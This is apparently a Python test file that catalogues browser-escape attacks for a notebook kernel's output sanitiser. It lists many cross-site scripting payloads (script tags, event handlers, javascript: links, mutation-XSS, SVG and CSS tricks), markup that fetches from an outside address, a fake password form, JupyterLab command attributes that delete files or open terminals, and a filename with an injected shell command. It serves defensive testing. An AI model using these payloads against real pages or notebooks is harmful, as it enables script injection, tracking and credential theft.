"""Getting into the reader's browser: whatever a page would run or fetch.

``T["tcp"]`` is a listener that nobody has a reason to fetch from, so its address stands for any
address outside.
"""

from __future__ import annotations

from functools import partial

from coderemote_kernel.escape.attack import Attack, Category, Request

__all__ = ["ATTACKS"]

_attack = partial(Attack, category=Category.BROWSER)
_START = """
from IPython.display import display
away = f"http://127.0.0.1:{T['tcp']}/"
def show(mime, *values):
    for value in values:
        display({mime: value, "text/plain": "x"}, raw=True)
attempt()
"""


def _html(name: str, title: str, *values: str, mime: str = "text/html") -> Attack:
    """Return an attack that shows pieces of markup; AWAY in them is an address outside."""
    lines = "".join(f"show({mime!r}, {value!r}.replace('AWAY', away))\n" for value in values)
    return _attack(id=f"browser-{name}", title=title, stock=True, code=_START + lines)


def _cell(name: str, title: str, code: str) -> Attack:
    return _attack(id=f"browser-{name}", title=title, stock=True, code=_START + code)


_INSPECTED = """
class Hostile:
    def _repr_mimebundle_(self, **kwargs):
        return {"text/html": "<script>evil()</script>", "application/javascript": "evil()", "text/plain": "x"}
    def _repr_html_(self):
        return "<img src=x onerror=evil()>"
    def __repr__(self):
        return "<script>evil()</script>"
hostile = Hostile()
"""

ATTACKS = (
    _cell("javascript", "application/javascript", "show('application/javascript', 'evil()')\n"),
    _cell(
        "javascript-names",
        "the other names of JavaScript",
        "for mime in ('text/javascript', 'application/x-javascript', 'application/ecmascript', 'text/ecmascript',\n"
        "             'application/JavaScript', 'application/javascript;x=1', ' application/javascript', 'module/javascript'):\n"
        "    show(mime, 'evil()')\n",
    ),
    _cell(
        "renderers",
        "types whose renderers run code or fetch",
        "for mime in ('application/vnd.bokehjs_exec.v0+json', 'application/vnd.bokehjs_load.v0+json', 'application/vnd.holoviews_exec.v0+json',\n"
        "             'application/vnd.vegalite.v5+json', 'application/vnd.vega.v5+json', 'application/vnd.plotly.v1+json', 'application/geo+json',\n"
        "             'text/vnd.mermaid', 'application/vnd.dataresource+json', 'application/pdf', 'text/html+x', 'application/xhtml+xml', 'text/xml'):\n"
        "    show(mime, {'data': {'url': away}, 'layout': {'images': [{'source': away}]}} if mime.endswith('json') else '<script>evil()</script>')\n",
    ),
    _html(
        "script",
        "script in HTML",
        "<script>evil()</script>",
        "<SCRIPT SRC=AWAY></SCRIPT>",
        "<scr<script>ipt>evil()</script>",
        "<svg><script>evil()</script></svg>",
        "<math><script>evil()</script></math>",
        "<script\x0c>evil()</script >",
        "<!--><script>evil()</script>-->",
    ),
    _html(
        "handlers",
        "event handlers in HTML",
        "<img src=x onerror=evil()>",
        "<body onload=evil()>",
        "<details open ontoggle=evil()>",
        "<div onpointerenter='evil()'>x</div>",
        "<input autofocus onfocus=evil()>",
        "<style onload=evil()></style>",
        "<video><source onerror=evil()></video>",
        "<svg/onload=evil()>",
        "<img src='x'/onerror=evil()>",
        "<a onclick\n=\nevil()>x</a>",
        "<marquee onstart=evil()>",
        "<x onanimationend=evil() style='animation:x'>",
    ),
    _html(
        "links",
        "links that run code",
        "<a href='javascript:evil()'>x</a>",
        "<a href='java\tscript:evil()'>x</a>",
        "<a href='&#106;avascript:evil()'>x</a>",
        "<a href='\x01javascript:evil()'>x</a>",
        "<a href='data:text/html,<script>evil()</script>'>x</a>",
        "<a href='vbscript:evil()'>x</a>",
        "<form action='javascript:evil()'><button>x</button></form>",
        "<button formaction='javascript:evil()'>x</button>",
        "<map><area href='javascript:evil()'></map>",
        "<svg><a xlink:href='javascript:evil()'><text>x</text></a></svg>",
    ),
    _html(
        "frames",
        "frames, objects and embedded pages",
        "<iframe src=AWAY></iframe>",
        "<iframe srcdoc='<script>evil()</script>'></iframe>",
        "<object data=AWAY></object>",
        "<embed src=AWAY>",
        "<frameset><frame src=AWAY></frameset>",
        "<portal src=AWAY></portal>",
        "<applet codebase=AWAY></applet>",
        "<iframe src='/lab'></iframe>",
    ),
    _html(
        "head",
        "elements that change the page",
        "<base href=AWAY>",
        "<meta http-equiv=refresh content='0;url=AWAY'>",
        "<link rel=stylesheet href=AWAY>",
        "<link rel=preload as=script href=AWAY>",
        "<link rel=dns-prefetch href=//x.example>",
        "<meta http-equiv=set-cookie content=x=1>",
    ),
    _html(
        "forms",
        "forms that ask and send",
        "<form action=AWAY><input name=password type=password><button>log in</button></form>",
        "<input type=image src=AWAY>",
        "<button form=f formaction=AWAY>x</button><form id=f></form>",
    ),
    _html(
        "remote-images",
        "images fetched from outside",
        "<img src=AWAY>",
        "<img srcset='AWAY 2x'>",
        "<picture><source srcset=AWAY><img></picture>",
        "<img src=//127.0.0.1/x>",
        "<img src='\\\\\\\\127.0.0.1\\\\x'>",
        "<img src='/\\\\127.0.0.1/x'>",
        "<img src='ht\ntp://127.0.0.1/'>",
        "<table background=AWAY><tr><td>x</td></tr></table>",
        "<img lowsrc=AWAY>",
    ),
    _html(
        "remote-media",
        "media, tracks and pings fetched from outside",
        "<video src=AWAY poster=AWAY></video>",
        "<audio src=AWAY></audio>",
        "<video><source src=AWAY></video>",
        "<video><track src=AWAY></video>",
        "<a href=# ping=AWAY>x</a>",
    ),
    _html(
        "styles",
        "addresses in styles",
        "<div style='background:url(AWAY)'>x</div>",
        "<style>@import 'AWAY';</style>",
        "<style>body{background:url(AWAY)}</style>",
        "<div style='background:u\\72l(AWAY)'>x</div>",
        "<div style='background:ur/**/l(AWAY)'>x</div>",
        "<div style='list-style:image-set(\"AWAY\" 1x)'>x</div>",
        "<style>@font-face{font-family:x;src:url(AWAY)}</style>",
        "<div style='cursor:url(AWAY),auto'>x</div>",
        "<style>@\\69mport 'AWAY';</style>",
        "<div style='width:expression(evil())'>x</div>",
    ),
    _html(
        "commands",
        "attributes that JupyterLab takes for commands",
        "<button data-commandlinker-command='docmanager:delete-file' data-commandlinker-args='{}'>x</button>",
        "<a data-commandlinker-command='terminal:create-new'>x</a>",
    ),
    _html(
        "mutation",
        "markup that a browser reads otherwise than a cleaner",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=evil()&gt;'>",
        "<svg></p><style><a id='</style><img src=x onerror=evil()>'>",
        "<noscript><p title='</noscript><img src=x onerror=evil()>'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=evil()>",
        "<svg><title><style><img src=x onerror=evil()></style></title></svg>",
        "<template><img src=x onerror=evil()></template>",
        "<xmp><img src=x onerror=evil()></xmp>",
        "<textarea></textarea><img src=x onerror=evil()>",
        "<select><template shadowrootmode=open><img src=x onerror=evil()></template></select>",
        "<img alt='`><img src=x onerror=evil()>`'>",
        '<a title="--><img src=x onerror=evil()>">x</a>',
    ),
    _html(
        "svg",
        "script and addresses in SVG",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>evil()</script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='evil()'/>",
        "<svg xmlns='http://www.w3.org/2000/svg'><foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='AWAY'/></foreignObject></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><image href='AWAY'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'><use xlink:href='AWAY#x'/></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><a><animate attributeName='href' to='javascript:evil()'/><text>x</text></a></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><set attributeName='onload' to='evil()'/></svg>",
        "<?xml version='1.0'?><?xml-stylesheet href='AWAY'?><svg xmlns='http://www.w3.org/2000/svg'><rect fill='url(AWAY#x)'/></svg>",
        "<!DOCTYPE svg [<!ENTITY x SYSTEM 'AWAY'>]><svg xmlns='http://www.w3.org/2000/svg'><style>@import 'AWAY';</style></svg>",
        mime="image/svg+xml",
    ),
    _html(
        "markdown",
        "scripts, links and images in Markdown",
        "<script>evil()</script>",
        "![x](AWAY)",
        "![x][r]\n\n[r]: AWAY",
        "[x](javascript:evil())",
        "<img src=AWAY>",
        "[x]: javascript:evil()\n\n[x]",
        "**x** <iframe src=AWAY></iframe>",
        "<a href='javascript:evil()'>x</a>",
        "![x](<AWAY>)",
        "![x](//127.0.0.1/x)",
        mime="text/markdown",
    ),
    _html(
        "latex",
        "links and styles in LaTeX",
        "$\\href{javascript:evil()}{x}$",
        "$\\style{background:url(AWAY)}{x}$",
        "$$\\href{data:text/html,x}{y}$$",
        mime="text/latex",
    ),
    _html(
        "latex-in-html",
        "LaTeX within HTML, which the page typesets",
        "<p>$\\href{javascript:evil()}{x}$</p>",
        "<p>$$\\style{background:url(AWAY)}{x}$$</p>",
        "<p>\\(\\href{javascript:evil()}{x}\\)</p>",
    ),
    _cell(
        "list-values",
        "markup given as a list",
        "display({'text/html': ['<scr', 'ipt>evil()</scr', 'ipt>'], 'text/plain': 'x'}, raw=True)\n"
        "display({'application/javascript': ['ev', 'il()'], 'text/plain': 'x'}, raw=True)\n",
    ),
    _cell(
        "mime-spelling",
        "types spelt oddly",
        "for mime in ('TEXT/HTML', 'text/html ', 'text/html;charset=utf-8', 'Text/Html', 'text/markdown;x', 'image/SVG+xml', '__proto__', 'constructor'):\n"
        "    show(mime, '<img src=x onerror=evil()>')\n",
    ),
    _cell(
        "update",
        "harmless first, active in an update",
        "handle = display({'text/plain': 'x'}, raw=True, display_id='one')\n"
        "handle.update({'text/html': '<script>evil()</script>', 'text/plain': 'x'}, raw=True)\n"
        "handle.update({'application/javascript': 'evil()'}, raw=True)\n",
    ),
    _cell("result", "an active result", _INSPECTED + "hostile\n"),
    _cell(
        "result-metadata",
        "activity by metadata and by transient data",
        "display({'text/html': '<script>evil()</script>', 'text/plain': 'x'}, raw=True, metadata={'text/html': {'isolated': True}, 'isolated': True}, transient={'display_id': '<script>', 'trusted': True})\n"
        "display({'application/vnd.coderemote.isolated+json': {'kind': 'trusted'}, 'text/html': '<script>evil()</script>'}, raw=True)\n",
    ),
    _attack(
        id="browser-user-expressions",
        title="an active answer to user expressions",
        stock=True,
        code=_START + _INSPECTED,
        options={"user_expressions": {"a": "hostile", "b": "Hostile()"}},
    ),
    _attack(
        id="browser-inspect",
        title="an active answer to inspection",
        stock=True,
        code=_START
        + _INSPECTED
        + """
get_ipython().object_inspect_mime = lambda *a, **k: {"text/html": "<script>evil()</script>", "application/javascript": "evil()", "text/plain": "x"}
""",
        then=(
            Request(
                msg_type="inspect_request",
                content={"code": "hostile", "cursor_pos": 7, "detail_level": 1},
            ),
        ),
        dirty=True,
    ),
    _attack(
        id="browser-complete",
        title="completions that carry more than text",
        code=_START
        + """
def complete(code, cursor):
    rich = {"start": 0, "end": 1, "text": {"html": "<script>evil()</script>"}, "type": ["x"], "signature": {"data": {"text/html": "<script>"}}}
    return {"matches": ["x"], "cursor_start": 0, "cursor_end": 1, "status": "ok", "metadata": {"_jupyter_types_experimental": [rich], "text/html": "<script>"}}
get_ipython().kernel.do_complete = complete
""",
        then=(Request(msg_type="complete_request", content={"code": "x", "cursor_pos": 1}),),
        dirty=True,
    ),
    _cell(
        "payload-edit",
        "open a file in the reader's editor",
        "manager = get_ipython().payload_manager\n"
        "manager.write_payload({'source': 'edit_magic', 'filename': '/etc/passwd', 'line_number': 1})\n"
        "manager.write_payload({'source': 'edit', 'filename': '/etc/passwd;touch x', 'line_number': 1})\n"
        "manager.write_payload({'source': 'crm', 'text': 'x'})\n",
    ),
    _cell(
        "payload-page",
        "an active pager",
        "get_ipython().payload_manager.write_payload({'source': 'page', 'data': {'text/html': '<script>evil()</script>', 'text/plain': 'x'}, 'start': 0})\n",
    ),
    _cell(
        "traceback",
        "active text in an error and its traceback",
        "from IPython.display import HTML\n"
        "class Loud(Exception):\n"
        "    def _render_traceback_(self):\n"
        "        display(HTML('<script>evil()</script>'))\n"
        "        return ['<img src=x onerror=evil()>', '\\x1b]8;;javascript:evil()\\x07x\\x1b]8;;\\x07']\n"
        "raise Loud('<script>evil()</script>')\n",
    ),
    _cell(
        "video",
        "IPython's own players and frames",
        "from IPython.display import IFrame, HTML, YouTubeVideo, Image, Video, SVG\n"
        "for thing in (IFrame(away, 10, 10), YouTubeVideo('x'), Image(url=away), Video(away), HTML(f'<video src={away}>')):\n"
        "    display(thing)\n",
    ),
)
